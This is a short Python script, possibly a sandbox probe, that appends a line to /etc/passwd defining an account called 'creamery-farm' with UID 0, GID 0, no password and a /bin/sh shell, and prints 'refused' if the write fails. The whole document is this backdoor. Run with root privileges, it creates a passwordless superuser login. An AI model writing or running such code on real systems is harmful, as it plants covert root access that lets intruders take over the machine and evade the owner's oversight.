ACCOUNT = "creamery-farm::0:0::/:/bin/sh"

try:
    with open("/etc/passwd", "a") as stream:
        stream.write(ACCOUNT + "\n")
except OSError as error:
    print("refused: %s" % error)
